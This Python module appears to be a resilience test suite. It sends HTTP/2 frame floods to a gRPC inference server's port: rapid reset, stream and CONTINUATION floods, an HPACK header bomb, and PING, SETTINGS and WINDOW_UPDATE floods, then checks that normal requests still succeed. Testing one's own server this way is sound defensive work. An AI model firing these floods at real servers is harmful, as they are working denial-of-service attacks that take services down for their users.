"""Attacks by HTTP/2 frames on the port of gRPC, with the key, as far as there is one to send."""

import contextlib
import struct
from collections.abc import Callable

from resformer.scripts.hostile.raw_exchange import Exchange, Outcome, Target

__all__ = ["CASES"]

GROUP = "HTTP/2"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
METHOD = "/org.pytorch.serve.grpc.inference.InferenceAPIsService/Predictions"
# Of the ports of a server, counted from that of predictions.
GRPC = 3
# So many frames of each kind.
MANY = 5000


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _literal(name: bytes, value: bytes) -> bytes:
    """A header that is not remembered (RFC 7541, 6.2.2), of short name and value."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def _request(target: Target) -> bytes:
    """Headers of a call: POST, http, path and authority by index (RFC 7541, appendix A), and the key."""
    path = METHOD.encode()
    fixed = b"\x83\x86" + b"\x04" + bytes([len(path)]) + path + b"\x01\x01x"
    return fixed + _literal(b"authorization", b"Bearer " + target.key.encode()) + _literal(b"te", b"trailers")


def _flood(make: Callable[[Target], bytes]) -> Callable[[Target], Outcome]:
    """Sends frames until the server has had enough; ordinary photos are answered meanwhile."""

    def run(target: Target) -> Outcome:
        with target.connect(target.port + GRPC, timeout=5.0) as wire:
            wire.socket.sendall(PREFACE + _frame(SETTINGS, 0, 0))
            with contextlib.suppress(OSError):  # the server ends the connection
                wire.socket.sendall(make(target))
            return target.meanwhile()

    return run


def _rapid_reset(target: Target) -> bytes:
    headers = _request(target)
    streams = range(1, 2 * MANY, 2)
    reset = struct.pack(">I", 8)  # CANCEL
    return b"".join(_frame(HEADERS, END_HEADERS, i, headers) + _frame(RESET, 0, i, reset) for i in streams)


def _many_streams(target: Target) -> bytes:
    headers = _request(target)
    return b"".join(_frame(HEADERS, END_HEADERS, i, headers) for i in range(1, 2 * MANY, 2))


def _continuations(target: Target) -> bytes:
    part = _literal(b"x", b"a" * 100) * 100
    return _frame(HEADERS, 0, 1, _request(target)) + _frame(CONTINUATION, 0, 1, part) * 500


def _hpack_bomb(target: Target) -> bytes:
    """One long header that is remembered, then named a few thousand times."""
    remembered = b"\x40\x01x\x7f\xc9\x1e" + b"a" * 4000  # RFC 7541, 6.2.1; a length of 4,000 in 7 bits and more
    return _frame(HEADERS, END_HEADERS, 1, _request(target) + remembered + b"\xbe" * 8000)


def _pings(target: Target) -> bytes:
    return _frame(PING, 0, 0, bytes(8)) * MANY


def _settings(target: Target) -> bytes:
    return _frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1)) * MANY


def _windows(target: Target) -> bytes:
    return _frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF)) * MANY


def _empty_data(target: Target) -> bytes:
    return _frame(HEADERS, END_HEADERS, 1, _request(target)) + _frame(DATA, 0, 1) * MANY


FLOODS: tuple[tuple[str, Callable[[Target], bytes]], ...] = (
    ("5,000 calls that are reset at once", _rapid_reset),
    ("5,000 calls without a body", _many_streams),
    ("a head in 500 frames", _continuations),
    ("a header named 8,000 times", _hpack_bomb),
    ("5,000 pings", _pings),
    ("5,000 settings", _settings),
    ("5,000 windows beyond the limit", _windows),
    ("5,000 empty frames of a body", _empty_data),
    ("HTTP/1.1 instead", lambda target: target.request()),
    ("noise", lambda target: bytes(range(256)) * 100),
)
CASES = tuple(Exchange(GROUP, name, _flood(make)) for name, make in FLOODS)
